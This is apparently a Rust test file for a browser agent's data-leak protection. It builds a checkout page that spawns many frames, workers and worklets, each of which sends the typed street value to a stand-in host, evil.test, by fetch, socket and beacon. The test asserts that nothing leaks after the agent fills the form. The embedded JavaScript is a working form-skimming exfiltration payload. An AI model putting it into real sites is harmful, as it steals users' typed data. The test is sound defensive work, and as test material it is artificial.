//! Every type of frame, worker and worklet of a page, made before and after the page gets values: none of them sends.

use crate::egress::{until_quiet, wait_for};
use crate::stage::{FORM, REQUEST, Stage, wait_until};

/// Sends by request, socket and beacon, as far as a context has them.
const SENDS: &str = "self.sendAll = (name, d) => {
      const to = (way) => `https://evil.test:PORT/${name}-${way}?${d}`;
      fetch(to('fetch'), { mode: 'no-cors' }).catch(() => {});
      try { new WebSocket(to('socket').replace('https', 'wss')); } catch {}
      try { navigator.sendBeacon(to('beacon'), 'x'); } catch {}
    };
    const receive = (e) => { if (Array.isArray(e.data)) sendAll(...e.data); };
    addEventListener('message', receive);
    self.onconnect = (e) => { e.ports[0].onmessage = receive; };";

/// Makes each type of context at page load and again when something is typed, and passes each the typed text.
const MAKES: &str = r#"<script>
  const code = SENDS;
  const html = `<script>${code}<\/script>`;
  (0, eval)(code);
  const blob = (type, text) => URL.createObjectURL(new Blob([text], { type }));
  const frame = (set, into = document.body) => {
    const el = document.createElement('iframe');
    set(el);
    into.append(el);
    return (...what) => el.contentWindow.postMessage(what, '*');
  };
  const shadow = (mode) => document.body.appendChild(document.createElement('div')).attachShadow({ mode });
  const worker = (made) => (...what) => (made.port ?? made).postMessage(what);
  const worklet = (of) => (name, d) => of().addModule(`https://evil.test:PORT/${name}-fetch?${d}`).catch(() => {});
  const types = {
    top: () => (...what) => sendAll(...what),
    page: () => frame((el) => { el.src = '/inner'; }),
    other: () => frame((el) => { el.src = 'https://bank.test:PORT/inner'; }),
    srcdoc: () => frame((el) => { el.srcdoc = html; }),
    sandboxed: () => frame((el) => { el.sandbox = 'allow-scripts'; el.srcdoc = html; }),
    blob: () => frame((el) => { el.src = blob('text/html', html); }),
    data: () => frame((el) => { el.src = 'data:text/html,' + encodeURIComponent(html); }),
    open: () => frame((el) => { el.srcdoc = html; }, shadow('open')),
    closed: () => frame((el) => { el.srcdoc = html; }, shadow('closed')),
    dedicated: () => worker(new Worker('/worker.js')),
    module: () => worker(new Worker('/worker.js', { type: 'module' })),
    nested: () => worker(new Worker('/nested.js')),
    madeof: () => worker(new Worker(blob('text/javascript', code))),
    shared: () => worker(new SharedWorker('/worker.js', 'classic')),
    sharedmodule: () => worker(new SharedWorker('/worker.js', { name: 'module', type: 'module' })),
    sharedblob: () => worker(new SharedWorker(blob('text/javascript', code))),
    paint: () => worklet(() => CSS.paintWorklet),
    audio: () => worklet(() => new OfflineAudioContext(1, 1, 8000).audioWorklet),
  };
  let made = [];
  const make = () => { for (const [name, type] of Object.entries(types)) { try { made.push([name, type()]); } catch {} } };
  const give = () => {
    const d = encodeURIComponent(document.forms[0].elements.street.value || 'nothing yet');
    for (const [name, tell] of made) { try { tell(name, d); } catch {} }
  };
  addEventListener('load', make);
  addEventListener('input', () => setTimeout(() => {
    give();
    make();
    setTimeout(() => { give(); document.body.dataset.sent = ''; }, 2000);
  }, 50));
  </script>"#;

const REQUESTS: [&str; 18] = [
    "top",
    "page",
    "other",
    "srcdoc",
    "sandboxed",
    "blob",
    "data",
    "open",
    "closed",
    "dedicated",
    "module",
    "nested",
    "madeof",
    "shared",
    "sharedmodule",
    "sharedblob",
    "paint",
    "audio",
];

#[test]
fn no_context_of_a_page_with_values_sends_them() {
    let mut stage = Stage::new(47);
    stage.site.put(
        "shop.test/checkout",
        &format!("{FORM}{}", MAKES.replace("SENDS", &serde_json::json!(SENDS).to_string())),
    );
    for host in ["shop.test", "bank.test"] {
        stage.site.put(&format!("{host}/inner"), &format!("<!doctype html><script>{SENDS}</script>"));
    }
    stage.site.put("shop.test/worker.js", SENDS);
    stage.site.put(
        "shop.test/nested.js",
        "const inner = new Worker('/worker.js'); onmessage = (e) => inner.postMessage(e.data);",
    );
    stage.serve(true);
    stage.browse();
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    wait_for(&mut stage, "made.length > 0");
    let fetches: Vec<String> = REQUESTS.iter().map(|name| format!("{name}-fetch")).collect();
    let sockets: Vec<String> = REQUESTS[..16].iter().map(|name| format!("{name}-socket")).collect();
    let beacons: Vec<String> = REQUESTS[..9].iter().map(|name| format!("{name}-beacon")).collect();
    let all: Vec<&str> = [&fetches, &sockets, &beacons].into_iter().flatten().map(String::as_str).collect();
    // A context that has not loaded yet loses the message, so each try sends it again.
    wait_until(|| {
        stage.browser().evaluate("give()");
        let sent = stage.site.sent_to("evil.test");
        let missing = all.iter().find(|one| !sent.contains(&format!("evil.test /{one}")));
        missing.map_or(Ok(()), |missing| Err(format!("{missing} did not arrive: {sent}")))
    });

    stage.task();
    stage.agent_until(None, "Deliver to");
    let before = until_quiet(&stage);
    let reply = stage.agent(Some(REQUEST));
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
    wait_for(&mut stage, "'sent' in document.body.dataset");
    assert_eq!(stage.browser().values()["street"], stage.value("street"));
    assert_eq!(until_quiet(&stage), before, "a context sent something after the fill");
    stage.no_value_got_out();
}
